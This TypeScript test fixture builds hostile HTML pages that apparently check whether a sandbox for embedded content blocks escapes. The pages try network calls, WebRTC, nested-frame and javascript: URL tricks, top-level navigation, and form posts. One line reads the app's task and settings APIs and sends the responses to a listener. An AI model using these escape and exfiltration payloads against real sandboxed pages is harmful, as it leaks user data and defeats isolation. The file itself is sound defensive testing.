// Pages as somebody hostile would have them made: each tries to reach a listener, the app around it, or another place.
import type { Listener } from './listener.ts';

/** By name; each says "tried" when it has tried everything, unless it leads its own frame away. */
export function hostilePages({ http, stun }: Listener): Record<string, string> {
  const quiet = (code: string): string => `try { ${code} } catch {}`;
  const rtc = `const p = new RTCPeerConnection({ iceServers: [{ urls: '${stun}' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)).catch(() => 0);`;
  const tried = `document.body.append(document.createElement('p')); document.body.lastChild.textContent = 'tried';`;
  const script = (...codes: readonly string[]): string => `<body><script>${codes.map(quiet).join('\n')}\n${tried}</script>`;
  const nested = `<script>${quiet(rtc)}</script>`;
  const asText = (html: string): string => JSON.stringify(html).replaceAll('</', '<\\/');
  return {
    network: script(
      `fetch('${http}/fetch', { mode: 'no-cors' }).catch(() => 0)`,
      `new XMLHttpRequest().open('GET', '${http}/xhr')`,
      `new WebSocket('${http.replace('http', 'ws')}/socket')`,
      `new EventSource('${http}/events')`,
      `navigator.sendBeacon('${http}/beacon')`,
      `new Image().src = '${http}/pixel'`,
      `new Worker('${http}/worker')`,
      `navigator.serviceWorker.register('${http}/service').catch(() => 0)`,
      `import('${http}/module').catch(() => 0)`,
      `document.head.append(Object.assign(document.createElement('script'), { src: '${http}/script' }))`,
      `for (const rel of ['stylesheet', 'preload', 'prefetch', 'preconnect', 'dns-prefetch', 'icon', 'manifest']) document.head.append(Object.assign(document.createElement('link'), { rel, as: 'image', href: '${http}/' + rel }))`,
      `document.body.append(Object.assign(document.createElement('video'), { src: '${http}/video', poster: '${http}/poster' }))`,
      `document.body.style.background = 'url(${http}/background)'`,
    ),
    rtc: script(rtc),
    nested: `<iframe srcdoc="${nested.replaceAll('"', '&quot;')}"></iframe><iframe src="${http}/frame"></iframe><object data="${http}/object"></object><embed src="${http}/embed"><div><template shadowrootmode="closed"><iframe srcdoc="${nested.replaceAll('"', '&quot;')}"></iframe></template></div>${script(
      `const f = document.createElement('iframe'); f.srcdoc = ${asText(nested)}; document.body.append(f); const end = Date.now() + 300; while (Date.now() < end);`,
      `const s = document.createElement('div').attachShadow({ mode: 'closed' }); document.body.append(s.host); s.innerHTML = '<iframe></iframe>'; s.firstChild.srcdoc = ${asText(nested)}`,
      `document.body.setHTMLUnsafe('<div><template shadowrootmode="closed"><iframe srcdoc="${nested.replaceAll('"', '&quot;').replaceAll("'", "\\'").replaceAll('</', '<\\/')}"></iframe></template></div>')`,
      `document.write(${asText(`<iframe srcdoc="${nested.replaceAll('"', '&quot;')}"></iframe>`)})`,
    )}`,
    app: script(
      `parent.postMessage({ type: 'navigate', to: '/settings' }, '*')`,
      `parent.document.body.textContent = 'taken'`,
      `top.location = '${http}/top'`,
      `top.location.hash = 'taken'`,
      `open('${http}/popup')`,
      `alert('taken')`,
      `document.cookie = 'a=b'`,
      `localStorage.setItem('a', 'b')`,
      `for (const path of ['/api/v1/tasks', '/api/v1/settings']) fetch(path).then((r) => r.text()).then((t) => fetch('${http}/got?' + t)).catch(() => 0)`,
      `const a = document.createElement('a'); a.href = '${http}/blank'; a.target = '_blank'; a.ping = '${http}/ping'; document.body.append(a); a.click()`,
      `const b = document.createElement('a'); b.href = 'data:text/plain,x'; b.download = 'x.txt'; document.body.append(b); b.click()`,
    ),
    form: `<form method="post" action="${http}/form"><input name="a" value="b"></form>${script(`document.forms[0].submit()`)}`,
    location: `<script>location = '${http}/location'</script>`,
    refresh: `<meta http-equiv="refresh" content="0;url=${http}/refresh">`,
    blob: `<script>location = URL.createObjectURL(new Blob([${asText(nested)}], { type: 'text/html' }))</script>`,
    // The page behind such an address has no guard.
    code: `<script>location = 'javascript:' + JSON.stringify(${asText(nested)})</script>`,
    codeLink: `<a id="a" href="javascript:'x'">x</a><script>a.setAttribute('href', 'javascript:' + JSON.stringify(${asText(nested)})); location.href = a.href</script>`,
    link: `<a id="a" href="${http}/link">x</a><script>a.click()</script>`,
    ours: `<script>location = '/api/v1/tasks'</script>`,
  };
}
